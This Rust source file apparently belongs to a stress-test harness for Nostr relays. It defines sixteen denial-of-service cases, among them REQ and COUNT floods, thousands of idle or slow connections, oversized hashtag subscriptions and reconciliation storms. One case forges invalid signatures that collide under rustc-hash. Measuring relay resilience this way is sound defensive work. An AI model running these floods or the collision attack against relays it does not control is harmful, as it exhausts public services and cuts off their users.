//! The attacks.

use std::fmt::Write as _;
use std::sync::atomic::Ordering;
use std::thread::Scope;
use std::time::Duration;

use anyhow::Result;

use super::Attacker;
use crate::client::Connection;
use crate::hex;

/// An attack by name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Case {
    /// No attack, for comparison.
    Baseline,
    /// A REQ of 100 filters with 50 tag conditions over five own events of many tags, repeated as soon as it is answered.
    Tags,
    /// 40 connections, each with 31 REQs that match nothing, repeated as soon as they are answered.
    Scans,
    /// 40 connections, each with 16 COUNTs of all events, repeated as soon as they are answered.
    Counts,
    /// 8 connections, each with 31 REQs of 141 authors and 141 kinds.
    Cursors,
    /// As many filters with nothing but a `since` in the future as the relay accepts, and then ephemeral events.
    Future,
    /// As many subscriptions of 19,000 hashtags as the relay accepts.
    Hashtags,
    /// 8 connections with 290 subscriptions to everything, which read nothing while 20,000 events are published, then read
    /// all.
    Behind,
    /// 500 connections that query 5,000 events and read nothing.
    Slow,
    /// 3,000 idle connections.
    Idle,
    /// A kind 5 that names 200 own events of many tags.
    Deletion,
    /// 10,000 subscriptions of 100 connections, which read what they are sent, and ten times a second an event that all of
    /// them want.
    Fanout,
    /// 4 connections that publish events of 2,500 tags, deletions of 2,500 unknown events and gift wraps for 2,500 recipients,
    /// each as soon as the one before is answered.
    Writes,
    /// 8 connections, each with a REQ of 19,000 hashtags (some 380 KB) that waits behind 31 scans, repeated as soon as all are
    /// answered.
    Waiting,
    /// 8 connections, each with 20 reconciliations (NIP-77) of all events, opened again as soon as they are answered.
    Reconcile,
    /// 120 connections, each with 32 copies of an event under signatures that are invalid and share one hash of `rustc-hash`,
    /// whatever its seed, again as soon as they are refused.
    Signatures,
}

impl Case {
    /// All of them.
    pub const ALL: [Case; 16] = [
        Case::Baseline,
        Case::Tags,
        Case::Scans,
        Case::Counts,
        Case::Cursors,
        Case::Future,
        Case::Hashtags,
        Case::Behind,
        Case::Slow,
        Case::Idle,
        Case::Deletion,
        Case::Fanout,
        Case::Writes,
        Case::Waiting,
        Case::Reconcile,
        Case::Signatures,
    ];

    /// Its name.
    pub const fn name(self) -> &'static str {
        match self {
            Case::Baseline => "baseline",
            Case::Tags => "tags",
            Case::Scans => "scans",
            Case::Counts => "counts",
            Case::Cursors => "cursors",
            Case::Future => "future",
            Case::Hashtags => "hashtags",
            Case::Behind => "behind",
            Case::Slow => "slow",
            Case::Idle => "idle",
            Case::Deletion => "deletion",
            Case::Fanout => "fanout",
            Case::Writes => "writes",
            Case::Waiting => "waiting",
            Case::Reconcile => "reconcile",
            Case::Signatures => "signatures",
        }
    }

    /// Why the case says nothing about the edge, if it does not.
    pub const fn not_on_edge(self) -> Option<&'static str> {
        match self {
            Case::Idle => Some("file descriptors: the sockets of a Durable Object are Cloudflare's"),
            _ => None,
        }
    }

    /// Prepares the attack; returns the connections that it uses.
    pub(super) fn prepare(self, attacker: &Attacker<'_>) -> Result<Vec<Connection>> {
        match self {
            Case::Baseline | Case::Cursors | Case::Writes | Case::Signatures => Ok(Vec::new()),
            Case::Tags => {
                let mut connection = attacker.connect()?;
                for number in 0..5 {
                    attacker.send(&mut connection, large_event(attacker, number).0)?;
                    attacker.await_answers(&mut connection, &["[\"OK\""], 1)?;
                }
                Ok(vec![connection])
            }
            Case::Scans | Case::Counts | Case::Waiting | Case::Reconcile => {
                publish_small(attacker, 20_000, 1)?;
                Ok(Vec::new())
            }
            Case::Future => subscribed(attacker, 40, 250, |_, _| {
                let filters = (0..100).map(|n| format!(r#"{{"since":{}}}"#, 4_000_000_000u64 + n));
                filters.collect::<Vec<_>>().join(",")
            }),
            Case::Hashtags => subscribed(attacker, 20, 5, |conn, sub| {
                let values = (0..19_000).map(|n| format!("\"{conn}-{sub}-{n}\""));
                format!(r##"{{"#t":[{}]}}"##, values.collect::<Vec<_>>().join(","))
            }),
            Case::Behind => {
                let kept = subscribed(attacker, 8, 290, |_, _| r#"{"limit":0}"#.to_owned())?;
                publish_small(attacker, 20_000, 1)?;
                Ok(kept)
            }
            Case::Slow => {
                publish_small(attacker, 5_000, 1)?;
                Ok((0..500).map_while(|_| attacker.connect().ok()).collect())
            }
            Case::Idle => Ok((0..3_000).map_while(|_| attacker.connect().ok()).collect()),
            Case::Deletion => {
                let mut connection = attacker.connect()?;
                let mut ids = String::new();
                for number in 0..200 {
                    let (event, id) = large_event(attacker, number);
                    attacker.send(&mut connection, event)?;
                    attacker.await_answers(&mut connection, &["[\"OK\""], 1)?;
                    let _ = writeln!(ids, "{}", hex::encode(&id));
                }
                let tags = ids.lines().map(|id| vec!["e".to_owned(), id.to_owned()]).collect();
                let (event, _) = attacker.event(0, 5, tags, String::new());
                // It is queued here, and sent when the measurement has begun.
                attacker.sent.fetch_add(event.len() as u64, Ordering::Relaxed);
                connection.queue(event.into())?;
                Ok(vec![connection])
            }
            // What the honest client publishes is not for them.
            Case::Fanout => subscribed(attacker, 100, 100, |_, _| {
                format!(r#"{{"authors":["{}"],"limit":0}}"#, attacker.authors[0].pubkey)
            }),
        }
    }

    /// Attacks until [`Attacker::is_over`].
    pub(super) fn attack<'scope, 'env>(
        self,
        attacker: &'env Attacker<'env>,
        kept: Vec<Connection>,
        scope: &'scope Scope<'scope, 'env>,
    ) {
        match self {
            Case::Baseline | Case::Idle | Case::Hashtags => keep_open(attacker, kept, scope),
            Case::Tags => {
                // Every condition but the last matches one of the events, so the mismatch is found last.
                let conditions = |filter: usize| {
                    let value = |tag: usize| format!("{}-{}", tag / 49, 50 * filter + tag);
                    let tags =
                        letters().enumerate().map(|(n, letter)| format!(r##""#{letter}":["{}"]"##, value(n)));
                    format!("{{{}}}", tags.collect::<Vec<_>>().join(","))
                };
                let filters = (0..100).map(conditions).collect::<Vec<_>>().join(",");
                repeat_requests(
                    attacker,
                    kept.into_iter().next(),
                    &[format!(r#"["REQ","x",{filters}]"#)],
                    scope,
                );
            }
            Case::Scans => {
                (0..40).for_each(|_| repeat_requests(attacker, None, &scans().collect::<Vec<_>>(), scope));
            }
            Case::Waiting => (0..8).for_each(|conn| {
                let values =
                    (0..19_000).map(|n| format!("\"waiting-{conn}-{n}\"")).collect::<Vec<_>>().join(",");
                let requests: Vec<_> =
                    scans().chain([format!(r##"["REQ","long",{{"#t":[{values}]}}]"##)]).collect();
                repeat_requests(attacker, None, &requests, scope);
            }),
            Case::Reconcile => (0..8).for_each(|_| {
                // Asks for the ids of all events.
                let requests: Vec<_> =
                    (0..20).map(|sub| format!(r#"["NEG-OPEN","{sub}",{{}},"6100000200"]"#)).collect();
                repeat_requests(attacker, None, &requests, scope);
            }),
            Case::Signatures => (0..120).for_each(|number| publish_colliding(attacker, number, scope)),
            Case::Writes => (0..4).for_each(|author| publish_large(attacker, author, scope)),
            Case::Counts => (0..40).for_each(|_| {
                let requests: Vec<_> = (0..16).map(|query| format!(r#"["COUNT","{query}",{{}}]"#)).collect();
                repeat_requests(attacker, None, &requests, scope);
            }),
            Case::Cursors => (0..8).for_each(|_| {
                let authors = (0..141u8).map(|n| format!("\"{}\"", hex::encode(&[n; 32])));
                let kinds = (0..141).map(|kind| kind.to_string());
                let (authors, kinds) =
                    (authors.collect::<Vec<_>>().join(","), kinds.collect::<Vec<_>>().join(","));
                let requests: Vec<_> = (0..31)
                    .map(|sub| format!(r#"["REQ","{sub}",{{"authors":[{authors}],"kinds":[{kinds}]}}]"#))
                    .collect();
                repeat_requests(attacker, None, &requests, scope);
            }),
            Case::Future => {
                keep_open(attacker, kept, scope);
                publish_every(attacker, Duration::from_millis(10), 1, 20_001, scope);
            }
            Case::Behind => kept.into_iter().for_each(|mut connection| {
                scope.spawn(move || attacker.await_answers(&mut connection, &["["], usize::MAX));
            }),
            Case::Slow => {
                let mut asked = Vec::new();
                for mut connection in kept {
                    let _ = attacker.send(&mut connection, r#"["REQ","x",{"limit":5000}]"#.to_owned());
                    asked.push(connection);
                }
                keep_open(attacker, asked, scope);
            }
            Case::Deletion => {
                let Some(mut connection) = kept.into_iter().next() else { return };
                scope.spawn(move || -> Result<()> {
                    connection.flush()?;
                    attacker.await_answers(&mut connection, &["[\"OK\""], 1)
                });
            }
            Case::Fanout => {
                for mut connection in kept {
                    scope.spawn(move || attacker.await_answers(&mut connection, &["["], usize::MAX));
                }
                publish_every(attacker, Duration::from_millis(100), 0, 1, scope);
            }
        }
    }
}

/// Opens up to `connections` connections, as many as the relay accepts, each with `subs` subscriptions. `filters` makes the
/// filters for the indices of a connection and a subscription. A refused subscription is not an error.
fn subscribed(
    attacker: &Attacker<'_>,
    connections: usize,
    subs: usize,
    filters: impl Fn(usize, usize) -> String,
) -> Result<Vec<Connection>> {
    let mut kept = Vec::new();
    for conn in 0..connections {
        let Ok(mut connection) = attacker.connect() else { break };
        for sub in 0..subs {
            attacker.send(&mut connection, format!(r#"["REQ","{sub}",{}]"#, filters(conn, sub)))?;
        }
        attacker.await_answers(&mut connection, &["[\"EOSE\"", "[\"CLOSED\""], subs)?;
        kept.push(connection);
    }
    Ok(kept)
}

/// Keeps connections open until the attack is over.
fn keep_open<'scope, 'env>(
    attacker: &'env Attacker<'env>,
    kept: Vec<Connection>,
    scope: &'scope Scope<'scope, 'env>,
) {
    scope.spawn(move || {
        while !attacker.is_over() {
            std::thread::sleep(Duration::from_millis(50));
        }
        drop(kept);
    });
}

/// Sends all requests, waits until each is answered, and begins again.
fn repeat_requests<'scope, 'env>(
    attacker: &'env Attacker<'env>,
    connection: Option<Connection>,
    requests: &[String],
    scope: &'scope Scope<'scope, 'env>,
) {
    let requests = requests.to_vec();
    scope.spawn(move || -> Result<()> {
        let mut connection = match connection {
            Some(connection) => connection,
            None => attacker.connect()?,
        };
        while !attacker.is_over() {
            for request in &requests {
                attacker.send(&mut connection, request.clone())?;
            }
            attacker.await_answers(
                &mut connection,
                &["[\"EOSE\"", "[\"CLOSED\"", "[\"COUNT\"", "[\"NEG-MSG\"", "[\"NEG-ERR\""],
                requests.len(),
            )?;
        }
        Ok(())
    });
}

/// Publishes an event of one author, and another one `pause` after each OK.
fn publish_every<'scope, 'env>(
    attacker: &'env Attacker<'env>,
    pause: Duration,
    author: usize,
    kind: u16,
    scope: &'scope Scope<'scope, 'env>,
) {
    scope.spawn(move || -> Result<()> {
        let mut connection = attacker.connect()?;
        for number in 0.. {
            if attacker.is_over() {
                break;
            }
            let (event, _) = attacker.event(author, kind, Vec::new(), format!("{number}"));
            attacker.send(&mut connection, event)?;
            attacker.await_answers(&mut connection, &["[\"OK\""], 1)?;
            std::thread::sleep(pause);
        }
        Ok(())
    });
}

/// As many REQs as a connection may have, less one, that match nothing.
fn scans() -> impl Iterator<Item = String> {
    (0..31).map(|sub| format!(r##"["REQ","{sub}",{{"kinds":[1],"#d":[""]}}]"##))
}

/// Publishes events of as many tags as are accepted by default, of three kinds in turn, each after the OK of the one before.
fn publish_large<'scope, 'env>(
    attacker: &'env Attacker<'env>,
    author: usize,
    scope: &'scope Scope<'scope, 'env>,
) {
    const TAGS: usize = 2_500;
    scope.spawn(move || -> Result<()> {
        let mut connection = attacker.connect()?;
        let hex = |number: usize| format!("{:064x}", (author << 32) + number);
        for number in 0.. {
            if attacker.is_over() {
                break;
            }
            let names = number * TAGS..(number + 1) * TAGS;
            let (kind, tags) = match number % 3 {
                0 => (1, names.map(|n| vec!["t".to_owned(), format!("{author}-{n}")]).collect()),
                1 => (5, names.map(|n| vec!["e".to_owned(), hex(n)]).collect()),
                _ => (1_059, names.map(|n| vec!["p".to_owned(), hex(n)]).collect()),
            };
            let (event, _) = attacker.event(author, kind, tags, String::new());
            attacker.send(&mut connection, event)?;
            attacker.await_answers(&mut connection, &["[\"OK\""], 1)?;
        }
        Ok(())
    });
}

/// Publishes one event under many signatures whose hashes by `rustc-hash` are equal: it multiplies every other word of a byte
/// string, xored with a constant, by the word before it, which says nothing if the product is zero.
fn publish_colliding<'scope, 'env>(
    attacker: &'env Attacker<'env>,
    connection: u64,
    scope: &'scope Scope<'scope, 'env>,
) {
    const COPIES: u64 = 32;
    const ZEROING: u64 = 0xa409_3822_299f_31d0;
    scope.spawn(move || -> Result<()> {
        let (event, _) = attacker.event(0, 1, Vec::new(), "colliding".to_owned());
        let body = event.split_once("\"sig\":").map_or(event.as_str(), |(body, _)| body);
        for round in 0.. {
            if attacker.is_over() {
                break;
            }
            let attack = || -> Result<()> {
                let mut relay = attacker.connect()?;
                for copy in 0..COPIES {
                    let first = (((round * COPIES + copy) << 8) | connection).to_le_bytes();
                    let mut sig = [0; 64];
                    sig[..8].copy_from_slice(&first);
                    sig[8..16].copy_from_slice(&ZEROING.to_le_bytes());
                    attacker.send(&mut relay, format!("{body}\"sig\":\"{}\"}}]", hex::encode(&sig)))?;
                }
                attacker.await_answers(&mut relay, &["[\"OK\""], COPIES as usize)
            };
            // A relay may close the connection of who sends invalid signatures.
            if attack().is_err() {
                std::thread::sleep(Duration::from_millis(10));
            }
        }
        Ok(())
    });
}

/// Letters of indexed tags that accept any value: all but `e` and `p`.
fn letters() -> impl Iterator<Item = char> + Clone {
    ('a'..='z').chain('A'..='Z').filter(|letter| !"ep".contains(*letter))
}

/// An own event of as many tags as the options say, and its id: a set (NIP-51), because a relay allows lists the most tags
/// (`limits.list_tags_max`). Each has a `d` of its own.
fn large_event(attacker: &Attacker<'_>, number: usize) -> (String, [u8; 32]) {
    let tags = letters().cycle().take(attacker.options.tags).enumerate();
    let tags = tags.map(|(n, letter)| vec![letter.to_string(), format!("{number}-{n}")]).collect();
    attacker.event(0, 30_000, tags, String::new())
}

/// Publishes small events, 64 at a time.
fn publish_small(attacker: &Attacker<'_>, count: usize, kind: u16) -> Result<()> {
    let mut connection = attacker.connect_to_prepare()?;
    for start in (0..count).step_by(64) {
        let window = 64.min(count - start);
        for number in start..start + window {
            let (event, _) = attacker.event(2 + number % 6, kind, Vec::new(), format!("small {number}"));
            attacker.send(&mut connection, event)?;
        }
        attacker.await_answers(&mut connection, &["[\"OK\""], window)?;
    }
    Ok(())
}
